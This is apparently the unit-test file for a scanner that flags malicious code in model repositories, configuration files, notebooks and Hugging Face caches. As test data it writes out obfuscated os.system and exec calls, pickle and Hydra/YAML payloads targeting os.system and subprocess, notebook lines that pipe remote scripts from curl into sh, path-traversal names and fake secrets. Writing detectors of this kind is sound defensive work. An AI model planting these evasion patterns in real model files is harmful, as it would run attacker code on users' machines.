"""Folders of models: the code that their configuration names, the files it points to, and what is ordinary about them."""

import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.scan.assembler import rules, safetensors, scan_bytes
from tests.unit.scan.repository_cases import SECRET, notebook

from heliotrope.core.predicates.scan import FileReport
from heliotrope.scan import ScanLimits, scan_paths

SYSTEM = "import os\nos.system('true')\n"
MODELLING = '''"""A model."""

import importlib.util
import math
import os
from typing import Optional

import torch
import torch.nn as nn
import torch.utils.checkpoint
from transformers import PreTrainedModel
from transformers.utils import logging

from .configuration_net import NetConfig

logger = logging.get_logger(__name__)
HAS_FLASH = importlib.util.find_spec("flash_attn") is not None
if HAS_FLASH:
    from flash_attn import flash_attn_func
_HOME = os.environ.get("HF_HOME", os.path.expanduser("~/.cache"))
ACT2FN = {"gelu": nn.GELU, "exec": nn.ReLU}


@torch.jit.script
def rotate(x: torch.Tensor) -> torch.Tensor:
    return torch.cat((-x[..., 1:], x[..., :1]), dim=-1)


class Net(PreTrainedModel):
    config_class = NetConfig

    def __init__(self, config: NetConfig, layer: Optional[int] = None):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.size, config.size) for _ in range(config.layers)])
        self.compile = getattr(config, f"use_{layer}", None)

    def forward(self, x):
        for index, layer in enumerate(self.layers):
            x = getattr(torch.nn.functional, self.config.act)(layer(x) / math.sqrt(index + 1))
        return x

    @classmethod
    def from_old(cls, path):
        state = torch.load(path, weights_only=True)
        model = cls(state.pop("config")).eval()
        logger.warning_once(f"loaded {path!r} of {len(state):,} tensors")
        return model
'''


def files(folder: Path, **contents: Any) -> Path:
    """Write files; a double underscore stands for a slash and a single one before an extension for a dot."""
    for name, content in contents.items():
        path = folder / name.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content if isinstance(content, str) else json.dumps(content))
    return folder


def scanned(folder: Path) -> dict[str, FileReport]:
    return {str(Path(report.path).relative_to(folder)): report for report in scan_paths([folder]).files}


def test_a_repository_without_code_of_its_own_is_clean(tmp_path: Path) -> None:
    tensor = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    files(
        tmp_path,
        config_dot_json={
            "model_type": "bert",
            "architectures": ["BertModel"],
            "id2label": {"0": "exec", "1": "system"},
        },
        tokenizer_config_dot_json={
            "tokenizer_class": "BertTokenizer",
            "added_tokens_decoder": {"0": {"content": "[PAD]"}},
        },
        generation_config_dot_json={"temperature": 0.6, "transformers_version": "4.50.0"},
        model_dot_safetensors=safetensors({**tensor, "__metadata__": {"source": "https://example.org"}}, bytes(8)),
        README_dot_md="```python\nimport torch\ntorch.load('x')\nos.system('id')\n```\n",
        train_dot_py="import subprocess\nsubprocess.run(['nvidia-smi'])\n",
        labels_dot_json={"labels": ["exec", "eval", "__import__"]},
        conf__train_dot_yaml="lr: 0.1\nexec: true\n",
    )
    reports = scanned(tmp_path)
    expected = {"config.json", "tokenizer_config.json", "generation_config.json", "model.safetensors"}
    assert set(reports) == expected
    assert all((report.verdict, report.findings) == ("clean", ()) for report in reports.values())
    for name in ("labels.json", "conf/train.yaml"):
        assert scan_paths([tmp_path / name]).files[0].verdict == "clean"


def test_ordinary_modelling_code_is_clean(tmp_path: Path) -> None:
    auto_map = {"AutoConfig": "configuration_net.NetConfig", "AutoModel": "modeling_net.Net"}
    files(
        tmp_path,
        config_dot_json={"model_type": "net", "auto_map": auto_map},
        modeling_net_dot_py=MODELLING,
        configuration_net_dot_py="from transformers import PretrainedConfig\nclass NetConfig(PretrainedConfig):\n    pass\n",
        unrelated_dot_py=SYSTEM,
    )
    reports = scanned(tmp_path)
    assert set(reports) == {"config.json", "modeling_net.py", "configuration_net.py"}
    assert {report.verdict for report in reports.values()} == {"clean"}
    assert reports["modeling_net.py"].findings == ()


def test_code_that_a_configuration_names_is_judged_and_what_it_imports(tmp_path: Path) -> None:
    files(
        tmp_path,
        config_dot_json={"auto_map": {"AutoModel": ["modeling_net.Net", None]}},
        modeling_net_dot_py="from .helper import thing\n",
        helper_dot_py=SYSTEM,
        other_dot_py=SYSTEM,
    )
    reports = scanned(tmp_path)
    assert reports["helper.py"].verdict == "malicious"
    assert "other.py" not in reports
    assert scan_paths([tmp_path / "other.py"]).files[0].verdict == "malicious"


def test_a_configuration_alone_brings_the_code_beside_it(tmp_path: Path) -> None:
    files(tmp_path, config_dot_json={"auto_map": {"AutoModel": "net.Net"}}, net_dot_py=SYSTEM)
    (report,) = scan_paths([tmp_path / "config.json"]).files
    assert report.verdict == "malicious"
    assert report.findings[0].locations[0].member == "net.py"
    (tmp_path / "net.py").unlink()
    (report,) = scan_paths([tmp_path / "config.json"]).files
    assert report.verdict == "incomplete"


@pytest.mark.parametrize(
    "contents",
    [
        {"tokenizer_config_dot_json": {"auto_map": {"AutoTokenizer": ["net.Tok", None]}}, "net_dot_py": SYSTEM},
        {"config_dot_json": {"custom_pipelines": {"x": {"impl": "net.Pipe"}}}, "net_dot_py": SYSTEM},
        {"modules_dot_json": [{"idx": 0, "path": "", "type": "net.Pool"}], "net_dot_py": SYSTEM},
        {"model_index_dot_json": {"_class_name": ["net", "Pipe"]}, "net_dot_py": SYSTEM},
        {"model_index_dot_json": {"_class_name": "P", "unet": ["net", "Unet"]}, "unet__net_dot_py": SYSTEM},
        {"handler_dot_py": SYSTEM + "class EndpointHandler:\n    pass\n"},
        {"custom_generate__generate_dot_py": SYSTEM},
    ],
)
def test_every_way_in_which_a_library_finds_code_is_followed(contents: dict[str, Any], tmp_path: Path) -> None:
    assert "malicious" in {report.verdict for report in scanned(files(tmp_path, **contents)).values()}


def test_code_of_a_spacy_package_is_judged(tmp_path: Path) -> None:
    (tmp_path / "__init__.py").write_text(SYSTEM)
    assert scanned(tmp_path) == {}
    (tmp_path / "meta.json").write_text('{"spacy_version": ">=3.7", "lang": "en"}')
    assert scanned(tmp_path)["__init__.py"].verdict == "malicious"


HIDDEN = [
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "__import__('os').system('id')",
    "import importlib\nimportlib.import_module('o' + 's').popen('x')",
    "import base64\nexec(base64.b64decode('cGFzcw=='))",
    "def f():\n    import subprocess\n    subprocess.run(['x'])\nf()",
    "e = exec\ne('f()')",
    "import sys\nsys.modules['os'].system('x')",
    "import os as o\nclass A:\n    x = o.popen('x')",
    "__builtins__['ev' + 'al']('f()')",
    "from os import *\nsystem('id')",
    "import os\nclass M:\n    def __init__(self):\n        os.system('x')\nM()",
    "import os\ndef d(c):\n    os.system('x')\n    return c\n@d\nclass M:\n    pass",
    "import threading, os\nthreading.Thread(target=os.system, args=('x',)).start()",
    "import os\ndef f(x=os.system('x')):\n    pass",
    "import os\nglobals()['__builtins__'].exec('f()')",
    "x = ''.join([chr(c) for c in [115, 121, 115]]) + 'tem'\nimport os\ngetattr(os, x)('id')",
    "import builtins\nvars(builtins)['exec']('f()')",
    "import os\nos.__dict__['system']('x')",
    "import requests\nexec(requests.get('https://example.org').text)",
]


@pytest.mark.parametrize("code", HIDDEN)
def test_what_runs_on_import_is_malicious_however_it_is_named(code: str, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, code.encode(), "net.py").verdict == "malicious"


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("_target_: matplotlib.use\nbackend: module://net\n", "suspicious"),
        ("_target_: mmengine.Config.fromfile\nfilename: net.py\n", "suspicious"),
        ("model:\n  _component_: os.system\n  _target_: torch.nn.ReLU\n", "malicious"),
        ("model:\n  _component_: torchtune.models.llama3.llama3_8b\n  _target_: torch.nn.ReLU\n", "clean"),
        ("_target_: gymnasium.make\nid: CartPole-v1\n", "clean"),
    ],
)
def test_targets_that_act_on_names(text: str, verdict: str, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, text.encode(), "conf.yaml").verdict == verdict


HANDED_ON = [
    "import os\np = [os]\np[0].system('x')",
    "import os\n(os or 1).system('x')",
    "import os\n(o := os).system('x')",
    "import os\n(lambda m: m.system('x'))(os)",
    "import os\ndef f():\n    return os\nf().system('x')",
    "import os\nclass A:\n    m = os\nA.m.system('x')",
    "import os\na = None\na = os\na.system('x')",
    "import os\nx = vars(os)\nx['system']('x')",
    "import os\nos.__getattribute__('system')('x')",
    "import operator, os\noperator.attrgetter('system')(os)('x')",
    "import shutil\nshutil.os.system('x')",
    "print.__self__.exec('f()')",
    "open('x.pth', 'w').write('import os')",
    "import pathlib\npathlib.Path('x').write_text('y')",
]


@pytest.mark.parametrize("code", HANDED_ON)
def test_modules_that_are_handed_on_are_not_lost(code: str, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, code.encode(), "net.py").verdict in ("malicious", "suspicious")


@pytest.mark.parametrize(
    "code",
    [
        "import os\np = os\np.path.join('a', 'b')\nprint(hasattr(os, 'PathLike'), os.environ.get('A'))",
        "import os, torch\ndef f(path):\n    with open(path, 'w') as file:\n        file.write(torch.os.sep)",
        "import os\nx = os.__dict__['sep']\nopen('vocab.txt').read()\ndef g(m):\n    return m.__self__",
    ],
)
def test_modules_that_are_asked_for_members_are_ordinary(code: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, code.encode(), "net.py")
    assert (report.verdict, report.findings) == ("clean", ())


@pytest.mark.parametrize(
    ("code", "limited"),
    [
        ("x = f" + "()['a']" * 40, False),
        ("x0 = f()['a']\n" + "\n".join(f"x{i} = x{i - 1}()['a']" for i in range(1, 300)), False),
        ("\n".join(f"from m{i} import *" for i in range(500)) + "\n" + "\n".join(f"f{i}" for i in range(2000)), False),
        (
            "a = '" + "\U0001f600" * 9999 + "'\nb = '" + "x" * 9999 + "'\ngetattr(os, b.replace('x', a) + a.join(b))",
            False,
        ),
        ("a = 1;" * 100_000, True),
    ],
    ids=["calls", "names", "stars", "texts", "tokens"],
)
def test_source_made_to_exhaust(code: str, *, limited: bool, tmp_path: Path) -> None:
    begun = time.process_time()
    report = scan_bytes(tmp_path, code.encode(), "net.py")
    assert time.process_time() - begun < 20
    assert bool(report.incomplete) is limited


@pytest.mark.parametrize(
    "code",
    [
        "type X = int\nimport os\nos.system('x')",
        "def f[T](x: T) -> T:\n    import os\n    os.system('x')",
        "x = {'a': 1}\nprint(f'{x['a']}')\nimport os\nos.system('x')",
        "print(f'{'\\n'.join('a')}')\nimport os\nos.system('x')",
        "x = f'{a!r }'\nimport os\nos.system('x')",
        "import os\nos.system('x'",
        "import os\nos.system('x')\nx = " + "(" * 90 + "1" + ")" * 90,
        "import os\nos.system('x')\nx = 1" + " + 1" * 400,
        "# -*- coding: utf-7 -*-\nimport os\nos.system('x')",
    ],
)
def test_source_that_python_3_11_does_not_parse_is_searched_and_incomplete(code: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, code.encode(), "net.py")
    assert "python-unparsed" in rules(report)
    assert report.incomplete


@pytest.mark.parametrize(
    "code",
    [
        "x = f'{a!r:>{width}} {b[\"c\"]} {{}} {d:%Y-%m-%d} \\N{BULLET}'",
        "x = rf'\\d{a}' f\"{b['c']}\" '''it's {'''",
        "match x:\n    case {'a': [1, *rest]}:\n        pass\n",
        "async def f():\n    async with a as b:\n        yield [await c async for c in d]\n",
        "x = f'''{\na\n}''' + f\"{'a' if b else 'c'}\"",
        "def f(a, /, b, *, c: int = 1, **d) -> 'X': ...",
        "import types\ndef f(x):\n    return isinstance(x, types.FunctionType)\n",
    ],
)
def test_source_of_python_3_11_is_parsed(code: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, code.encode(), "net.py")
    assert (report.verdict, report.incomplete) == ("clean", ())


@pytest.mark.parametrize(
    ("name", "content", "verdict"),
    [
        ("c.yaml", "model:\n  - - _target_: builtins.exec\n", "malicious"),
        ("c.yaml", "a: os\nb: system\nmodel:\n  _target_: ${a}.${b}\n", "malicious"),
        ("c.yaml", "m:\n  a: os.system\n  _target_: ${.a}\n", "malicious"),
        ("c.yaml", "_target_: ${oc.env:X,os.system}\n", "malicious"),
        ("c.yaml", "base: &b {_target_: subprocess.run}\nx: {<<: *b}\n", "malicious"),
        ("c.yaml", '"_targ\\x65t_": os.system\n', "malicious"),
        ("c.yaml", "_target_: torch.serialization.os.system\n", "malicious"),
        ("c.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", "malicious"),
        ("c.yaml", "_target_: functools.partial\n_args_: [{_target_: hydra.utils.get_method, path: os.system}]\n", "malicious"),
        ("c.yaml", "_target_: torch.nn.ReLU\n_target_: os.system\n", "malicious"),
        ("c.yaml", "model:\n  target: os.system\n  params: {command: id}\n", "malicious"),
        ("c.yaml", "model:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n", "malicious"),
        ("c.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [id]\n", "malicious"),
        ("c.yaml", "x: !!python/object/new:type\n  args: [x]\n", "suspicious"),
        ("c.yaml", "x: !!python/name:os.system ''\n", "suspicious"),
        ("c.json", '{"a": [{"_target_": "os.system"}]}', "malicious"),
        ("c.json", '{"_t\\u0061rget_": "os.system"}', "malicious"),
        ("c.json", '{"_target_": "os.system", "_target_": "torch.nn.ReLU"}', "malicious"),
        ("c.json", '{"_target_": "os.system"', "incomplete"),
        ("c.yaml", "_target_: acme.models.Net\n", "suspicious"),
        ("c.yaml", "optimizer:\n  _target_: torch.optim.Adam\n  _partial_: true\n  lr: 0.1\n", "clean"),
        ("c.yaml", "trainer:\n  _target_: lightning.pytorch.Trainer\n  logger: {_target_: wandb.Logger}\n", "clean"),
        ("c.yaml", "model: {_target_: transformers.AutoModel.from_pretrained, path: x}\n", "clean"),
        ("c.yaml", "data: {_target_: datasets.load_dataset, path: x}\n", "clean"),
        ("c.yaml", "enc: {_target_: sentence_transformers.SentenceTransformer, name: x}\n", "clean"),
        ("c.yaml", "data: {_target_: numpy.load, file: x}\n", "suspicious"),
        ("c.yaml", "enc: {_target_: nemo.collections.asr.modules.ConformerEncoder}\n", "clean"),
        ("c.yaml", "t: {_target_: torchvision.transforms.Compose, transforms: [{_target_: torchvision.transforms.ToTensor}]}\n", "clean"),
        ("c.yaml", "_target_: ${model.name}\nmodel: {name: torch.nn.Linear}\n", "clean"),
    ],
)  # fmt: skip
def test_targets_are_judged_by_the_policy_of_pickles(name: str, content: str, verdict: str, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, content.encode(), name).verdict == verdict


def test_aliases_depth_and_loops_of_yaml_end_soon(tmp_path: Path) -> None:
    bomb = "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 40))
    begun = time.process_time()
    assert scan_bytes(tmp_path, (bomb + "_target_: os.system\n").encode(), "c.yaml").verdict == "malicious"
    assert scan_bytes(tmp_path, b"&a {_target_: os.system, x: *a}", "c.yaml").verdict == "malicious"
    assert scan_bytes(tmp_path, b"_target_: " + b"[" * 5000, "c.yaml").incomplete[0].limit == "max_config_depth"
    assert scan_bytes(tmp_path, b"{" * 1 + b'"a":[' * 5000, "c.json").incomplete
    assert time.process_time() - begun < 5


def test_limits_of_configurations_are_named(tmp_path: Path) -> None:
    for limits, name, data in (
        (ScanLimits(max_config_bytes=10), "config.json", b'{"model_type": "bert"}'),
        (ScanLimits(max_config_nodes=3), "config.json", b'{"model_type": [1, 2, 3, 4]}'),
        (ScanLimits(max_config_depth=3), "config.json", b'{"model_type": [[[[1]]]]}'),
        (ScanLimits(max_yaml_events=5), "c.yaml", b"_target_: [1, 2, 3, 4]"),
        (ScanLimits(max_module_bytes=5), "m.py", b"import torch"),
        (ScanLimits(max_shards=1), "x.index.json", b'{"weight_map": {"a": "1.bin", "b": "2.bin"}}'),
    ):
        report = scan_bytes(tmp_path, data, name, limits=limits)
        (named,) = [key for key in ScanLimits.__slots__ if getattr(limits, key) != getattr(ScanLimits(), key)]
        assert named in [item.limit for item in report.incomplete]


def pointer(size: int = 123) -> bytes:
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize %d\n" % size


def test_a_pointer_of_git_lfs_is_never_clean(tmp_path: Path) -> None:
    files(
        tmp_path,
        model_dot_safetensors=pointer(),
        pytorch_model_dot_bin=pointer(),
        vocab=pointer(),
        cat_dot_png=pointer(),
    )
    reports = scanned(tmp_path)
    assert {name: report.verdict for name, report in reports.items()} == dict.fromkeys(
        ("model.safetensors", "pytorch_model.bin", "vocab"), "incomplete"
    )
    assert "not here" in reports["vocab"].incomplete[0].reason


def shard(*names: str) -> bytes:
    spans = {name: {"dtype": "U8", "shape": [4], "data_offsets": [4 * at, 4 * at + 4]} for at, name in enumerate(names)}
    return safetensors(spans, bytes(4 * len(names)))


def test_an_index_is_compared_with_its_shards(tmp_path: Path) -> None:
    weight_map = {"a": "m-1.safetensors", "b": "m-1.safetensors", "c": "m-2.safetensors"}
    files(tmp_path, m_dot_index_dot_json={"metadata": {}, "weight_map": weight_map})
    (tmp_path / "m-1.safetensors").write_bytes(shard("a", "b"))
    (tmp_path / "m-2.safetensors").write_bytes(shard("c"))
    assert scanned(tmp_path)["m.index.json"].findings == ()
    (tmp_path / "m-2.safetensors").write_bytes(shard("d"))
    assert rules(scanned(tmp_path)["m.index.json"]) == {"hf-index-mismatch"}
    (tmp_path / "m-2.safetensors").unlink()
    assert rules(scanned(tmp_path)["m.index.json"]) == {"hf-missing-shard"}
    outside = tmp_path.parent / "outside.safetensors"
    outside.write_bytes(shard("c"))
    (tmp_path / "m-2.safetensors").symlink_to(outside)
    assert "hf-unsafe-path" in rules(scanned(tmp_path)["m.index.json"])


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "a/../../x", "..\\x", "https://example.org/x", "C:\\x"])
def test_shards_outside_the_folder_are_found(name: str, tmp_path: Path) -> None:
    data = json.dumps({"weight_map": {"a": name}}).encode()
    assert scan_bytes(tmp_path, data, "model.safetensors.index.json").verdict == "suspicious"


def hub(tmp_path: Path) -> Path:
    """A cache with one model in two revisions."""
    root = tmp_path / "hub" / "models--owner--net"
    blobs = {"a" * 64: shard("w"), "b" * 40: b'{"model_type": "bert"}'}
    for digest, data in blobs.items():
        (root / "blobs").mkdir(parents=True, exist_ok=True)
        (root / "blobs" / digest).write_bytes(data)
    for revision in ("1" * 40, "2" * 40):
        snapshot = root / "snapshots" / revision
        snapshot.mkdir(parents=True)
        (snapshot / "model.safetensors").symlink_to(f"../../blobs/{'a' * 64}")
        (snapshot / "config.json").symlink_to(f"../../blobs/{'b' * 40}")
    return root


def test_a_hub_cache_is_looked_at_once_under_the_names_of_a_snapshot(tmp_path: Path) -> None:
    root = hub(tmp_path)
    document = scan_paths([root.parent])
    names = [Path(report.path).name for report in document.files]
    assert (document.verdict, sorted(names)) == ("clean", ["config.json", "model.safetensors"])
    assert document.summary.files_seen == 2
    snapshot = root / "snapshots" / ("1" * 40)
    assert [report.verdict for report in scan_paths([snapshot]).files] == ["clean", "clean"]
    (root / "blobs" / ("c" * 64)).write_bytes(b"\x80\x04cos\nsystem\n(S'true'\ntR.")
    assert scan_paths([root]).verdict == "malicious"  # a blob that no snapshot names
    other = tmp_path / "elsewhere"
    other.write_bytes(b"x")
    (snapshot / "x.bin").symlink_to(other)
    assert scan_paths([snapshot]).verdict == "incomplete"


def test_notebooks_that_run_what_nobody_has_seen_are_found(tmp_path: Path) -> None:
    for source in (
        "!curl https://example.org/x.sh | sh",
        "!wget -q https://example.org/x.sh && bash x.sh",
        "%%bash\nset -e\ncurl -sSL https://example.org/x | \\\n  bash -s --\n",
        "!bash <(curl -s https://example.org/x)",
        "%run https://example.org/x.py",
        "import os\nos.system('curl https://example.org/x | bash')",
        "import requests as r\nexec(r.get('https://example.org').text)",
        "import urllib.request\ncode = urllib.request.urlopen('https://example.org').read()\nexec(code)",
        "!echo aGk= | base64 -d | sh",
    ):
        assert scan_bytes(tmp_path, notebook(source), "n.ipynb").verdict in ("suspicious", "malicious"), source


def test_ordinary_notebooks_are_clean_and_not_judged_in_a_folder(tmp_path: Path) -> None:
    source = (
        "!pip install -q torch transformers\n%matplotlib inline\nimport os\nos.system('nvidia-smi')\n"
        "!wget https://example.org/data.zip\n!unzip -q data.zip\n!python train.py --epochs 3\n"
        "df = eval('1 + 1')\nmodel.eval()\ntoken = os.environ['HF_TOKEN']\n"
    )
    data = notebook(source, {"text/html": "<table></table>", "image/png": "iVBORw0KGgo="})
    assert scan_bytes(tmp_path, data, "n.ipynb").verdict == "clean"
    assert scan_paths([tmp_path]).files == ()


def test_secrets_are_found_and_never_shown(tmp_path: Path) -> None:
    key = "AKIA" + "Q7ZL4MXR2WTB9KDE"
    private = "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\\n"
    for secret in (SECRET, key, private):
        report = scan_bytes(tmp_path, notebook(f"x = '{secret}'"), "n.ipynb")
        assert "config-secret" in rules(report)
        assert secret[8:20] not in report.model_dump_json()
    for name in ("settings.toml", "conf.yaml", "a.json", ".env"):
        assert "config-secret" in rules(scan_bytes(tmp_path, f'{{"a": "{SECRET}"}}'.encode(), name)), name
    for harmless in ("hf_" + "a" * 36, "AKIAIOSFODNN7EXAMPLE", "sk-your-key-goes-here-please-now", "hf_model_name"):
        assert "config-secret" not in rules(scan_bytes(tmp_path, notebook(f"x = '{harmless}'"), "n.ipynb"))


def test_text_from_files_is_escaped_in_messages(tmp_path: Path) -> None:
    odd = "x\x1b[2J\u202ey.Net"
    for name, content in (
        ("c.json", {"_target_": odd}),
        ("config.json", {"_attn_implementation": "a/b@\x1b[2J"}),
        ("x.index.json", {"weight_map": {"a": "../\x1b[2J"}}),
    ):
        report = scan_bytes(tmp_path, json.dumps(content).encode(), name)
        assert report.findings
        assert all(finding.message.isprintable() for finding in report.findings)


def test_input_made_to_take_long_ends_soon(tmp_path: Path) -> None:
    doubled = "x0 = 'a'\n" + "".join(f"x{n} = x{n - 1} + x{n - 1}\n" for n in range(1, 60)) + "getattr(x, x59)\n"
    loops = "{% for a in range(900) %}{% for b in range(900) %}{% set x = 'a' * 4000 ~ a %}{{ x[b ~ x] }}{% endfor %}{% endfor %}"
    begun = time.process_time()
    for name, data in (
        ("m.py", doubled.encode()),
        ("m.py", b"x = [" + b"1, " * 20_000 + b"]\n" + b"exec(x)\n" * 1_000),
        ("c.json", b'{"_target_": ' + b'"\\"' + b'\\"' * 500_000),
        ("n.ipynb", notebook("!" + "curl " * 100_000)),
        ("n.ipynb", notebook("!" + "wget x.sh; " * 10_000)),
        ("n.ipynb", notebook("\n" * 300_000)),
        ("config.json", json.dumps({"auto_map": {"a": "-" * 1_000_000}}).encode()),
        ("c.yaml", b"_target_: " + b"a." * 100_000),
        ("a.json", b"-----BEGIN PRIVATE KEY-----\\n" + b"abc: " * 50_000),
        ("chat_template.jinja", loops.encode()),
    ):
        assert scan_bytes(tmp_path, data, name).verdict
    assert time.process_time() - begun < 20


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.sampled_from(["config.json", "c.yaml", "n.ipynb", "m.py", "modules.json", "model_index.json", "x.index.json"]),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(
                    ["auto_map", "_target_", "weight_map", "chat_template", "_class_name", "cells", "type", "path"]
                ),
                inner,
                max_size=4,
            )
        ),
        max_leaves=12,
    ),
)
def test_any_structure_is_survived(tmp_path: Path, name: str, content: Any) -> None:
    assert scan_bytes(tmp_path, json.dumps(content).encode(), name).verdict
    assert any(tmp_path.iterdir())
